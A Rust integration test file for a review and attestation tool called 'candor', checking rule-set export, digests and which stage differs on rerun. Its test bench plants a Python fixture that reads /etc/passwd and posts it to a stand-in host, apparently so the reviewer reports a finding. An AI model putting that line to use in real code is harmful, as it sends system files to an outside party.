//! A review repeated: the same bytes, or the first stage that differs by name; rules of another time are used again.

use std::fs;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use candor::attest::layout;
use candor::attest::pack::write_pack;
use candor::base::{Digest, json};
use candor::models::RuleSet;
use candor::review::rules;
use serde_json::{Value, json};

use super::sample::{SUBMISSION, input, key};

/// A folder with a key, a submission and a home of its own.
struct Bench {
    folder: tempfile::TempDir,
}

impl Bench {
    fn new() -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        key(1).save(&folder.path().join("key.pem")).expect("a new file");
        fs::create_dir_all(folder.path().join("product/lib")).expect("made");
        for (name, text) in SUBMISSION {
            fs::write(folder.path().join("product").join(name), text).expect("written");
        }
        let upload = "import os, requests\nrequests.post('https://x.example', data=open('/etc/passwd').read())\n";
        fs::write(folder.path().join("product/agent.py"), upload).expect("written");
        Self { folder }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Exit code and all that was said.
    fn candor(&self, args: &[&str]) -> (i32, String) {
        let mut command = Command::new(env!("CARGO_BIN_EXE_candor"));
        let output = command
            .current_dir(self.folder.path())
            .env("HOME", self.folder.path())
            .env_remove("XDG_DATA_HOME")
            .args(args)
            .output()
            .expect("the program runs");
        let said = [output.stdout, output.stderr].concat();
        (output.status.code().expect("an exit code"), String::from_utf8(said).expect("UTF-8"))
    }

    #[track_caller]
    fn expect(&self, code: i32, words: &str, args: &[&str]) -> String {
        let (got, said) = self.candor(args);
        assert_eq!(got, code, "{args:?}: {said}");
        assert!(said.contains(words), "{args:?}: {said}");
        said
    }
}

const REVIEW: [&str; 7] = ["review", "product", "--key=key.pem", "--no-store", "--quiet", "--jobs=1", "--output=p.candor"];
const RERUN: [&str; 6] = ["rerun", "p.candor", "product", "--key=key.pem", "--no-store", "--quiet"];

/// The rules of this candor with another title of one class, under their own digest.
fn other_rules() -> RuleSet {
    let mut set = rules::export();
    set.version = "0.0.9".to_owned();
    set.classes = set.classes.replacen("title = \"", "title = \"Formerly: ", 1);
    let models =
        set.files().map(|(language, file, text)| Digest::of_parts(&[language.as_bytes(), file.as_bytes(), text.as_bytes()]));
    let lowering = set.lowering.iter().map(|one| one.digest);
    let parts: Vec<_> = models.chain(lowering).chain([Digest::of(set.classes.as_bytes())]).collect();
    set.digest = Digest::of_parts(&parts.iter().map(|digest| digest.0.as_slice()).collect::<Vec<_>>());
    set
}

#[test]
fn rules_of_another_time_are_named_and_can_be_used_again() {
    let bench = Bench::new();
    let set = other_rules();
    fs::write(bench.path("old.json"), set.to_bytes().expect("JSON")).expect("written");
    bench.expect(1, "", &[&REVIEW[..], &["--rules=old.json"]].concat());
    let said = bench.expect(1, "DIFFERENT", &[&RERUN[..], &["--output=a.jsonl"]].concat());
    let first = said.lines().find_map(|line| line.strip_prefix("differs    ")).expect("a cause");
    assert!(first.starts_with(&format!("rules: the pack is by sha256:{}", set.digest)), "{said}");
    bench.expect(0, "IDENTICAL", &[&RERUN[..], &["--output=b.jsonl", "--rules=old.json"]].concat());
    bench.expect(0, &set.digest.hex(), &["rules", "use", "old.json"]);
    bench.expect(0, "IDENTICAL", &[&RERUN[..], &["--output=c.jsonl"]].concat());
}

#[test]
fn exported_rules_are_the_built_in_ones() {
    let bench = Bench::new();
    bench.expect(0, &rules::identity().digest.hex(), &["rules", "export", "--output=now.json"]);
    bench.expect(2, "exists already", &["rules", "export", "--output=now.json"]);
    bench.expect(1, "", &REVIEW);
    bench.expect(0, "IDENTICAL", &[&RERUN[..], &["--rules=now.json"]].concat());
    // Found again, and said already.
    bench.expect(0, "IDENTICAL", &[&RERUN[..], &["--rules=now.json"]].concat());
}

#[test]
fn rules_that_do_not_fit_are_refused() {
    let bend = |change: &dyn Fn(&mut RuleSet)| {
        let mut set = rules::export();
        change(&mut set);
        rules::read(&set.to_bytes().expect("JSON")).map(|_| ()).map_err(|error| error.to_string())
    };
    assert_eq!(bend(&|_| ()), Ok(()));
    assert!(bend(&|set| set.models[0].text.push('#')).is_err_and(|why| why.contains("digest")));
    assert!(bend(&|set| set.classes.push('#')).is_err_and(|why| why.contains("digest")));
    let grammar = bend(&|set| set.lowering[0].digest = Digest::of(b"another grammar"));
    assert!(grammar.is_err_and(|why| why.contains("another way of reading")));
    assert!(bend(&|set| drop(set.lowering.pop())).is_err_and(|why| why.contains("another way of reading")));
    assert!(bend(&|set| set.schema = "candor-rules/v2".to_owned()).is_err());
    assert!(rules::read(b"{}").is_err());
}

/// A pack whose report names another version of the tool, and one that counts other files.
#[test]
fn the_stage_that_differs_is_named() {
    let bench = Bench::new();
    bench.expect(1, "", &REVIEW);
    let report = fs::read(bench.path("p.candor").join(layout::REPORT)).expect("a report");
    let cases: [(&str, Value, &str); 3] = [
        ("/tool/version", json!("9.9.9"), "tool: the pack is by version 9.9.9"),
        ("/coverage/totals/lines", json!(7), "coverage: coverage differ"),
        ("/findings", json!([]), "findings: findings differ (0 then, 1 now)"),
    ];
    for (place, value, cause) in cases {
        let mut bent: Value = serde_json::from_slice(&report).expect("JSON");
        *bent.pointer_mut(place).unwrap_or_else(|| panic!("{place} is not in a report")) = value;
        packed(&bench.path("bent.candor"), &bent, &bench.path("p.candor"));
        let said = bench.expect(1, cause, &["rerun", "bent.candor", "product", "--key=key.pem", "--no-store", "--quiet"]);
        assert_eq!(said.lines().filter(|line| line.starts_with("differs")).count(), 1, "{said}");
    }
}

/// A pack of this report, with the manifest of another pack.
fn packed(path: &Path, report: &Value, like: &Path) {
    let mut input = input();
    input.report_json = json::to_canonical(report).expect("JSON");
    input.manifest = fs::read(like.join(layout::MANIFEST)).expect("a manifest");
    input.received = None;
    write_pack(path, input, &[&key(1)]).expect("a pack");
}
